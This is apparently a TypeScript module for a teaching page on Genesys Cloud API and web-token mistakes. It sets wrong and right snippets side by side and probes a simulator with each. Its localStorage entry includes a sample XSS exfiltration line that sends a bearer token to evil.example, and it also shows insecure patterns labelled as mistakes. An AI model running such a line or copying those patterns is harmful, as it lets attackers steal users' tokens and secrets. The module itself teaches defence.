import "server-only";
/**
 * The teaching page's "Common mistakes": what tutorials get wrong about Genesys Cloud and about
 * tokens in a web app, each beside the right way. The API mistakes are not only asserted:
 * `runMistakeProbes` sends the wrong request and the right one to the embedded simulator and the
 * page shows its answers. They are the simulator's, not Genesys's: Genesys documents the right
 * requests, not what it answers the wrong ones, so each probe says what is and is not documented.
 */
import { STATUS_CODES } from "node:http";
import { SIMULATOR_BASE_URL, simulatorFetch } from "@/lib/server/connection";
import { getEmbeddedSimulator } from "@/lib/server/embedded-simulator";
import { redactToken } from "@/lib/genesys";
import { SIM_CLIENT_ID, SIM_CLIENT_SECRET } from "@/lib/sim";

export type MistakeId = "token-host" | "basic-auth" | "metric-names" | "details-paging" | "local-storage" | "next-public";

export type Snippet = { label: string; code: string };

/** A public source a reader can open. */
export type Source = { label: string; href: string };

/** What a probe sends. The simulator serves the login service and the platform API on one host. */
export type ProbeRequest = {
  method: "POST";
  path: string;
  /** `basic`: the demo client's id and secret as HTTP Basic; `bearer`: a client-credentials token. */
  auth: "basic" | "bearer" | "none";
  /** A string is sent form-urlencoded, an object as JSON. */
  body: (context: ProbeContext) => string | Record<string, unknown>;
};

export type ProbeContext = { clientId: string; clientSecret: string; interval: string };

export type Mistake = {
  id: MistakeId;
  title: string;
  wrong: Snippet;
  right: Snippet;
  why: string;
  sources: readonly Source[];
} & (
  | {
      probe: {
        wrong: ProbeRequest;
        right: ProbeRequest;
        /** What Genesys documents about the wrong request's answer; the simulator's answer is its own choice. */
        documented: string;
      };
      consequence?: never;
    }
  /** No request can show these: the consequence of each side, in words. */
  | { consequence: { wrong: string; right: string }; probe?: never }
);

export type ProbeAnswer = {
  /** Method and path, e.g. `POST /oauth/token`; never a credential. */
  request: string;
  status: number;
  statusText: string;
  /** The error code of an error answer (ErrorBody `code` or OAuth `error`). */
  code?: string;
  /** The answer's JSON, compacted, tokens redacted, at most EXCERPT_MAX characters. */
  excerpt: string;
};

export type MistakeAnswer = { id: MistakeId; wrong: ProbeAnswer; right: ProbeAnswer };

/** The documented client-credentials request (RFC 6749 §4.4, HTTP Basic); also fetches the probes' token. */
const CLIENT_CREDENTIALS: ProbeRequest = {
  method: "POST",
  path: "/oauth/token",
  auth: "basic",
  body: () => "grant_type=client_credentials",
};

const JS_SDK = "https://github.com/MyPureCloud/platform-client-sdk-javascript/blob/e09e27aa2f5657f4aa76f526bb909e893199d384";
const DOTNET_SDK = "https://github.com/MyPureCloud/platform-client-sdk-dotnet/blob/6e801ced7445926cade0b8b4adf129cdf79f1f79";
const CLIENT_CREDENTIALS_PAGE: Source = {
  label: "Genesys Developer Center: Client Credentials Grant",
  href: "https://developer.genesys.cloud/authorization/platform-auth/use-client-credentials",
};

const AGGREGATES_QUERY = "/api/v2/analytics/conversations/aggregates/query";
const DETAILS_QUERY = "/api/v2/analytics/conversations/details/query";

export const MISTAKES: readonly Mistake[] = [
  {
    id: "token-host",
    title: "Asking the API host for a token",
    wrong: {
      label: "The token endpoint on api.",
      code: `await fetch("https://api.mypurecloud.com/api/v2/oauth/token", {
  method: "POST",
  headers: { Authorization: \`Basic \${btoa(\`\${clientId}:\${clientSecret}\`)}\` },
  body: new URLSearchParams({ grant_type: "client_credentials" }),
});`,
    },
    right: {
      label: "The token endpoint on login.",
      code: `await fetch("https://login.mypurecloud.com/oauth/token", {
  method: "POST",
  headers: { Authorization: \`Basic \${btoa(\`\${clientId}:\${clientSecret}\`)}\` },
  body: new URLSearchParams({ grant_type: "client_credentials" }),
});`,
    },
    why: "The official SDKs derive two hosts from the environment domain: the API at https://api.<env> and the login service at https://login.<env>. The token endpoint is always https://login.<env>/oauth/token, never on the api. host.",
    sources: [
      CLIENT_CREDENTIALS_PAGE,
      {
        label: "platform-client-sdk-javascript configuration.js, setEnvironment",
        href: `${JS_SDK}/build/src/purecloud-platform-client-v2/configuration.js#L363-L378`,
      },
    ],
    probe: {
      wrong: { ...CLIENT_CREDENTIALS, path: "/api/v2/oauth/token" },
      right: CLIENT_CREDENTIALS,
      documented: "Genesys documents only https://login.<env>/oauth/token; what api.<env> answers is not documented.",
    },
  },
  {
    id: "basic-auth",
    title: "Sending the client secret in the form body",
    wrong: {
      label: "Client id and secret as form fields",
      code: `await fetch("https://login.mypurecloud.com/oauth/token", {
  method: "POST",
  body: new URLSearchParams({
    grant_type: "client_credentials",
    client_id: clientId,
    client_secret: clientSecret,
  }),
});`,
    },
    right: {
      label: "HTTP Basic; only the grant type in the body",
      code: `await fetch("https://login.mypurecloud.com/oauth/token", {
  method: "POST",
  headers: {
    // base64 of the raw "id:secret", as the official SDKs send it: no form-encoding first
    Authorization: \`Basic \${btoa(\`\${clientId}:\${clientSecret}\`)}\`,
    "Content-Type": "application/x-www-form-urlencoded",
  },
  body: "grant_type=client_credentials",
});`,
    },
    why: "The documented client-credentials request carries the id and secret as Authorization: Basic followed by the base64 of the raw client_id:client_secret (neither part form-encoded first: exactly what the official SDKs send), with only grant_type=client_credentials in the body; no official SDK or tutorial sends them in the body.",
    sources: [
      CLIENT_CREDENTIALS_PAGE,
      {
        label: "platform-client-sdk-javascript ApiClient.js, loginClientCredentialsGrant",
        href: `${JS_SDK}/build/src/purecloud-platform-client-v2/ApiClient.js#L946-L961`,
      },
      {
        label: "Genesys Cloud Developer Community: Client Credentials authentication, alternative method",
        href: "https://community.genesys.com/discussion/client-credentials-authentication-alternative-method",
      },
    ],
    probe: {
      wrong: {
        method: "POST",
        path: "/oauth/token",
        auth: "none",
        body: ({ clientId, clientSecret }) =>
          new URLSearchParams({ grant_type: "client_credentials", client_id: clientId, client_secret: clientSecret }).toString(),
      },
      right: CLIENT_CREDENTIALS,
      documented:
        "Genesys documents only HTTP Basic for this grant; what its login service does with credentials in the body is not documented (a community post reports they are accepted).",
    },
  },
  {
    id: "metric-names",
    title: "Inventing metric names",
    wrong: {
      label: "Metric names from a tutorial",
      code: `POST /api/v2/analytics/conversations/aggregates/query
{
  "interval": "2026-03-02T09:00:00.000Z/2026-03-02T10:00:00.000Z",
  "groupBy": ["queueId"],
  "metrics": ["interactions", "handled"]
}`,
    },
    right: {
      label: "Names from the API's metric enum",
      code: `POST /api/v2/analytics/conversations/aggregates/query
{
  "interval": "2026-03-02T09:00:00.000Z/2026-03-02T10:00:00.000Z",
  "groupBy": ["queueId"],
  "metrics": ["nOffered", "tAnswered", "tHandle"]
}`,
    },
    why: "metrics[] is an exact enum of 80 names: counts begin with n (nOffered), durations in milliseconds with t (tAnswered, tHandle), observations with o (oServiceLevel). Names such as interactions, handled, handleTime, offered or answered do not exist.",
    sources: [
      {
        label: "platform-client-sdk-dotnet ConversationAggregationQuery.cs, MetricsEnum",
        href: `${DOTNET_SDK}/build/src/PureCloudPlatform.Client.V2/Model/ConversationAggregationQuery.cs#L537`,
      },
    ],
    probe: {
      wrong: {
        method: "POST",
        path: AGGREGATES_QUERY,
        auth: "bearer",
        body: ({ interval }) => ({ interval, groupBy: ["queueId"], metrics: ["interactions", "handled"] }),
      },
      right: {
        method: "POST",
        path: AGGREGATES_QUERY,
        auth: "bearer",
        body: ({ interval }) => ({ interval, groupBy: ["queueId"], metrics: ["nOffered", "tAnswered", "tHandle"] }),
      },
      documented: "Genesys documents the metric enum; the exact error for a name outside it is not documented.",
    },
  },
  {
    id: "details-paging",
    title: "Paging the details query with a cursor",
    wrong: {
      label: "select, pageSize and cursor, as tutorials send them",
      code: `POST /api/v2/analytics/conversations/details/query
{
  "interval": "2026-03-02T09:00:00.000Z/2026-03-02T10:00:00.000Z",
  "select": ["conversationId", "conversationStart"],
  "pageSize": 25,
  "cursor": null
}`,
    },
    right: {
      label: "paging: pageSize and pageNumber",
      code: `POST /api/v2/analytics/conversations/details/query
{
  "interval": "2026-03-02T09:00:00.000Z/2026-03-02T10:00:00.000Z",
  "paging": { "pageSize": 25, "pageNumber": 1 }
}
// Then pageNumber 2, 3, … until an answer has no "conversations".`,
    },
    why: "The synchronous details query pages by paging: {pageSize, pageNumber} and has no cursor, pageToken, select or nextPage field. Only the results of an async details job (GET …/details/jobs/{jobId}/results) page by cursor.",
    sources: [
      {
        label: "Genesys Developer Center: Conversation detail query",
        href: "https://developer.genesys.cloud/analyticsdatamanagement/analytics/detail/conversation-query",
      },
      { label: "platform-client-sdk-dotnet ConversationQuery.md (paging)", href: `${DOTNET_SDK}/build/docs/ConversationQuery.md` },
      {
        label: "platform-client-sdk-javascript AnalyticsApi.md, getAnalyticsConversationsDetailsJobResults (cursor)",
        href: `${JS_SDK}/build/docs/AnalyticsApi.md#getanalyticsconversationsdetailsjobresults`,
      },
    ],
    probe: {
      wrong: {
        method: "POST",
        path: DETAILS_QUERY,
        auth: "bearer",
        body: ({ interval }) => ({ interval, select: ["conversationId", "conversationStart"], pageSize: 25, cursor: null }),
      },
      right: {
        method: "POST",
        path: DETAILS_QUERY,
        auth: "bearer",
        body: ({ interval }) => ({ interval, paging: { pageSize: 25, pageNumber: 1 } }),
      },
      documented: "Genesys documents paging and no select, pageSize or cursor field; how it answers unknown fields is not documented.",
    },
  },
  {
    id: "local-storage",
    title: "Keeping the token in localStorage",
    wrong: {
      label: "The browser stores the token and calls Genesys",
      code: `// In the browser, after sign-in
localStorage.setItem("token", accessToken);

await fetch("https://api.mypurecloud.com/api/v2/routing/queues", {
  headers: { Authorization: \`Bearer \${localStorage.getItem("token")}\` },
});`,
    },
    right: {
      label: "The server keeps the token in an encrypted HttpOnly cookie",
      code: `// Auth.js config (server): the token goes into the encrypted session cookie
session: { strategy: "jwt" },
callbacks: {
  jwt({ token, account }) {
    if (account) token.accessToken = account.access_token;
    return token;
  },
  // What the browser may read: name and email, never the token
  session({ session }) { return session; },
},
// Server code reads the token and calls Genesys; the browser calls only this app.`,
    },
    why: "Every script running on the page can read localStorage, so a token kept there is one injected script away from being sent elsewhere. The Backend-for-Frontend pattern keeps tokens on the server and gives the browser only an HttpOnly session cookie; this app does that with an Auth.js JWT session.",
    sources: [
      {
        label: "RFC 10017 (OAuth 2.0 for Browser-Based Applications) §6.1, Backend for Frontend",
        href: "https://www.rfc-editor.org/rfc/rfc10017#section-6.1",
      },
    ],
    consequence: {
      wrong:
        "Any script on the page, an injected one (XSS) or a compromised dependency, can read it: fetch('https://evil.example/?t=' + localStorage.getItem('token')) hands the bearer token to whoever runs evil.example, who can use it until it expires.",
      right:
        "The browser holds only a cookie that scripts cannot read, encrypted with AUTH_SECRET. Server code decrypts it and calls Genesys Cloud; the browser never sees the Genesys token.",
    },
  },
  {
    id: "next-public",
    title: "Putting the client secret in a NEXT_PUBLIC_ variable",
    wrong: {
      label: "A NEXT_PUBLIC_ secret",
      code: `# .env
NEXT_PUBLIC_GENESYS_CLIENT_SECRET=…

// anywhere in the app
const secret = process.env.NEXT_PUBLIC_GENESYS_CLIENT_SECRET;`,
    },
    right: {
      label: "A server-only variable",
      code: `# .env
GENESYS_CLIENT_SECRET=…

// lib/config/env.ts: read on the server only
GENESYS_CLIENT_SECRET: optionalText,`,
    },
    why: "At build time, Next.js replaces process.env.NEXT_PUBLIC_* references with their values and inlines them into the JavaScript sent to the browser. Variables without the prefix are only available in the Node.js environment.",
    sources: [
      {
        label: "Next.js docs, Environment Variables: Bundling Environment Variables for the Browser",
        href: "https://nextjs.org/docs/app/guides/environment-variables#bundling-environment-variables-for-the-browser",
      },
    ],
    consequence: {
      wrong:
        "next build writes the secret itself into the JavaScript that every visitor downloads. Anyone can read it there and request tokens as your app.",
      right: "The secret stays in the server's environment, where the token request is made; no page or bundle contains it.",
    },
  },
];

const EXCERPT_MAX = 400;
const HOUR_MS = 3_600_000;

let answers: Promise<MistakeAnswer[]> | undefined;

/**
 * Each probed mistake's wrong and right request, answered by the embedded simulator. Memoized:
 * the simulator is deterministic, so the answers never change. Not when a right request failed
 * (a fault injected into the simulator), so the next caller asks again.
 */
export async function runMistakeProbes(): Promise<MistakeAnswer[]> {
  answers ??= probeAll().then(
    (all) => {
      if (!all.every((a) => a.right.status >= 200 && a.right.status < 300)) answers = undefined;
      return all;
    },
    (error: unknown) => {
      answers = undefined;
      throw error;
    },
  );
  return answers;
}

async function probeAll(): Promise<MistakeAnswer[]> {
  const send = simulatorFetch(getEmbeddedSimulator());
  const context: ProbeContext = { clientId: SIM_CLIENT_ID, clientSecret: SIM_CLIENT_SECRET, interval: lastFullHour(Date.now()) };
  const grant = await exchange(send, CLIENT_CREDENTIALS, context, "");
  const token = isRecord(grant.body) && typeof grant.body.access_token === "string" ? grant.body.access_token : "";
  const out: MistakeAnswer[] = [];
  for (const mistake of MISTAKES) {
    if (!mistake.probe) continue;
    const wrong = await exchange(send, mistake.probe.wrong, context, token);
    const right = await exchange(send, mistake.probe.right, context, token);
    out.push({ id: mistake.id, wrong: answerOf(mistake.probe.wrong, wrong), right: answerOf(mistake.probe.right, right) });
  }
  return out;
}

/** The hour before the current one: inside the simulator's history, complete, and small. */
function lastFullHour(now: number): string {
  const end = Math.floor(now / HOUR_MS) * HOUR_MS;
  return `${new Date(end - HOUR_MS).toISOString()}/${new Date(end).toISOString()}`;
}

async function exchange(
  send: typeof fetch,
  request: ProbeRequest,
  context: ProbeContext,
  token: string,
): Promise<{ status: number; body: unknown }> {
  const headers = new Headers({ Accept: "application/json" });
  if (request.auth === "basic") headers.set("Authorization", `Basic ${btoa(`${context.clientId}:${context.clientSecret}`)}`);
  if (request.auth === "bearer") headers.set("Authorization", `Bearer ${token}`);
  const body = request.body(context);
  headers.set("Content-Type", typeof body === "string" ? "application/x-www-form-urlencoded" : "application/json");
  const response = await send(`${SIMULATOR_BASE_URL}${request.path}`, {
    method: request.method,
    headers,
    body: typeof body === "string" ? body : JSON.stringify(body),
  });
  const text = await response.text();
  try {
    return { status: response.status, body: JSON.parse(text) as unknown };
  } catch {
    return { status: response.status, body: text };
  }
}

function answerOf(request: ProbeRequest, answer: { status: number; body: unknown }): ProbeAnswer {
  const shown = isRecord(answer.body) ? essentials(answer.body) : answer.body;
  const text = typeof shown === "string" ? shown : JSON.stringify(shown);
  const code = isRecord(answer.body)
    ? typeof answer.body.code === "string"
      ? answer.body.code
      : typeof answer.body.error === "string"
        ? answer.body.error
        : undefined
    : undefined;
  return {
    request: `${request.method} ${request.path}`,
    status: answer.status,
    statusText: STATUS_CODES[answer.status] ?? "",
    ...(code ? { code } : {}),
    excerpt: text.length > EXCERPT_MAX ? `${text.slice(0, EXCERPT_MAX)}…` : text,
  };
}

/** What the page needs of an answer: no whole token, and none of the per-request noise. */
function essentials(body: Record<string, unknown>): Record<string, unknown> {
  if (typeof body.access_token === "string") return { ...body, access_token: redactToken(body.access_token) };
  // ErrorBody: contextId differs on every request; the empty lists say nothing.
  if (typeof body.code === "string" && typeof body.status === "number") {
    const { code, status, message, details } = body;
    return Array.isArray(details) && details.length ? { code, status, message, details } : { code, status, message };
  }
  // OAuth error: `description` repeats `error_description`.
  if (typeof body.error === "string") return { error: body.error, error_description: body.error_description };
  return body;
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}
